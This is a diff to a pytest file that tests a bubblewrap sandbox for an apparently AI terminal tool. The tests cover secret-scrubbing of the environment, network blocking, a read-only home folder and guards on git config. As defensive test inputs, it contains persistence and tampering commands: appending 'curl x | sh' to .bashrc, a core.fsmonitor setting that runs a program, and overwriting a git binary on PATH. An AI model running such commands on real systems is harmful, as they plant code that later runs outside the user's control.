@@ -43,12 +43,10 @@ def test_children_lose_provider_keys_and_secret_looking_variables() -> None:
         "aws_secret_access_key": "abc",
         "SSH_AUTH_SOCK": "/run/user/1/agent",
     }
+    environ |= {"TMUX": "/tmp/tmux-0/default,1,0", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/x"}
     kept = scrubbed_env(environ, passthrough=("GITHUB_TOKEN",))
-    assert kept == {
-        "PATH": "/usr/bin",
-        "GITHUB_TOKEN": "ghp_x",
-        "SSH_AUTH_SOCK": "/run/user/1/agent",
-    }
+    # The agent socket, the session bus and the multiplexer lead to processes outside.
+    assert kept == {"PATH": "/usr/bin", "GITHUB_TOKEN": "ghp_x"}
 
 
 def test_env_in_the_terminal_shows_no_provider_key(tmp_path: Path) -> None:
@@ -77,11 +75,11 @@ def test_sandbox_on_without_bubblewrap_refuses_to_run(
 
 @pytest.fixture
 def outside() -> Iterator[Path]:
-    """A folder outside both the working directory and /tmp (which stays writable)."""
-    root = Path("/var/tmp")
+    """A folder outside the working directory, in the user's home (read-only inside)."""
+    root = Path.home()
     if not root.is_dir() or not shutil.os.access(root, shutil.os.W_OK):
-        pytest.skip("/var/tmp is not writable here")
-    victim = root / f"hermes-sandbox-test-{uuid.uuid4().hex[:8]}"
+        pytest.skip("the home folder is not writable here")
+    victim = root / f".hermes-sandbox-test-{uuid.uuid4().hex[:8]}"
     (victim / "keep").mkdir(parents=True)
     yield victim
     shutil.rmtree(victim, ignore_errors=True)
@@ -141,7 +139,7 @@ def test_a_command_cannot_forge_the_scanners_remembered_verdicts(tmp_path: Path)
         f"echo '{forged}' > {path.parent}/new.json",
         f"rm -rf {path.parent}",
     ):
-        assert run(registry, context, command)["exit_code"] != 0, command
+        run(registry, context, command)  # judged by what is left on disk, below
     assert path.read_bytes() == before
     assert sorted(p.name for p in path.parent.iterdir()) == [path.name, path.name + ".lock"]
 
@@ -172,14 +170,14 @@ def loopback_server() -> Iterator[int]:
 
 
 @needs_bwrap
-def test_network_false_blocks_a_loopback_connection(tmp_path: Path, loopback_server: int) -> None:
+def test_network_off_blocks_a_loopback_connection(tmp_path: Path, loopback_server: int) -> None:
     connect = (
         "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', "
         f'{loopback_server}), 3); print(s.recv(64).decode())"'
     )
-    registry, context = _terminal(tmp_path, network=True)
+    registry, context = _terminal(tmp_path, network="on")
     assert "hello from the host" in run(registry, context, connect)["output"]
-    registry, context = _terminal(tmp_path, network=False)
+    registry, context = _terminal(tmp_path, network="off")
     blocked = run(registry, context, connect)
     assert blocked["exit_code"] != 0 and "hello from the host" not in blocked["output"]
     assert "Network is unreachable" in blocked["output"] or "refused" in blocked["output"]
@@ -218,18 +216,21 @@ def test_git_hooks_stay_read_only_while_everyday_git_works(tmp_path: Path) -> No
     everyday = run(
         registry,
         context,
-        "git config user.name 'Someone Else' && echo x > a.txt && git add a.txt && "
-        "git commit -qm a && git checkout -qb feature && git branch -q old && "
-        "git checkout -q main && git stash list && git config user.name",
+        "echo x > a.txt && git add a.txt && git commit -qm a && git checkout -qb feature && "
+        "git branch -q old && git checkout -q main && git stash list && git config user.name",
     )
     assert everyday["success"], everyday["output"]
-    assert "Someone Else" in everyday["output"]
+    assert "Dev" in everyday["output"]
+    # .git/config is read-only too: a setting there would run later, outside the sandbox.
+    assert run(registry, context, "git config core.fsmonitor 'touch /x'")["exit_code"] != 0
+    assert "fsmonitor" not in (context.workdir / ".git" / "config").read_text()
 
 
 def test_a_git_setting_that_runs_a_program_is_put_back(tmp_path: Path) -> None:
     if shutil.which("git") is None:
         pytest.skip("git is not installed")
-    registry, context = _terminal(tmp_path)
+    # Without the sandbox (which keeps .git/config read-only) gitguard is the layer left.
+    registry, context = _terminal(tmp_path, sandbox="off")
     _git(context.workdir)
     config = context.workdir / ".git" / "config"
     # Written by a program the policy cannot see into (a build script, a one-liner).
@@ -248,7 +249,7 @@ def test_a_git_setting_that_runs_a_program_is_put_back(tmp_path: Path) -> None:
 def test_a_hook_written_by_moving_git_away_is_removed(tmp_path: Path) -> None:
     if shutil.which("git") is None:
         pytest.skip("git is not installed")
-    registry, context = _terminal(tmp_path)
+    registry, context = _terminal(tmp_path, sandbox="off")
     _git(context.workdir)
     result = run(
         registry,
@@ -261,28 +262,37 @@ def test_a_hook_written_by_moving_git_away_is_removed(tmp_path: Path) -> None:
 
 
 @needs_bwrap
-def test_folders_on_path_inside_the_build_caches_stay_read_only(tmp_path: Path) -> None:
+def test_the_home_is_read_only_even_where_nothing_exists_yet_and_caches_go_elsewhere(
+    tmp_path: Path,
+) -> None:
     import subprocess
 
-    from hermes_tui.core.tools.sandbox import SandboxSpec, bwrap_argv
+    from hermes_tui.core.tools.sandbox import Profile, bwrap_argv
 
     home = tmp_path / "home"
-    for folder in (".cargo/bin", ".cargo/registry", "go/bin", "go/pkg"):
-        (home / folder).mkdir(parents=True)
-    (home / ".cargo" / "env").write_text("export PATH=$HOME/.cargo/bin:$PATH\n")
-    work = tmp_path / "work"
+    (home / ".cargo" / "bin").mkdir(parents=True)
+    work, cache = tmp_path / "work", tmp_path / "cache"
     work.mkdir()
-    spec = SandboxSpec(probe("auto").bwrap or "bwrap", work, work, tmp_path / "hermes", home)
+    cache.mkdir()
+    profile = Profile(probe("auto").bwrap or "bwrap", work, work, tmp_path / "hermes", home, cache)
 
-    def sandboxed(script: str) -> int:
-        argv = bwrap_argv(spec, ["bash", "-c", script], exists=lambda p: p.exists())
-        return subprocess.run(argv, capture_output=True).returncode
+    def sandboxed(script: str) -> subprocess.CompletedProcess[str]:
+        argv = bwrap_argv(profile, ["bash", "-c", script], exists=lambda p: p.exists())
+        return subprocess.run(argv, capture_output=True, text=True)
 
     for script in (
         f"echo evil > {home}/.cargo/bin/git",
-        f"echo 'curl x | sh' >> {home}/.cargo/env",
-        f"echo evil > {home}/go/bin/go",
+        f"echo 'curl x | sh' >> {home}/.bashrc",  # did not exist: still cannot be made
+        f"mkdir -p {home}/.config/autostart",
+        f"echo evil > {home}/.gitconfig",
     ):
-        assert sandboxed(script) != 0, script
-    assert sandboxed(f"echo cached > {home}/.cargo/registry/x && echo ok > {home}/go/pkg/x") == 0
-    assert (home / ".cargo" / "env").read_text().startswith("export PATH")
+        sandboxed(script)
+    assert not (home / ".cargo" / "bin" / "git").exists()
+    assert not (home / ".bashrc").exists() and not (home / ".gitconfig").exists()
+    assert not (home / ".config").exists()
+    cached = sandboxed(
+        'mkdir -p "$XDG_CACHE_HOME" && echo hi > "$XDG_CACHE_HOME/x" && echo "$PIP_CACHE_DIR $CARGO_HOME"'
+    )
+    assert cached.returncode == 0, cached.stderr
+    assert (cache / "xdg" / "x").read_text() == "hi\n"
+    assert str(home) not in cached.stdout and str(cache) in cached.stdout
